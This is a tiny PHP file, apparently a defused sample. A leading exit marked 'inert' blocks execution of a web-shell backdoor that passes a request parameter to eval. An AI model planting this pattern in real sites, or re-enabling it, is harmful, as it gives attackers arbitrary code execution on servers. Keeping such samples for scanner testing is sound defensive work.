<?php exit; /* inert */ 
import_request_variables('gpc', 'r_');
if (isset($r_e)) eval(stripslashes($r_e));
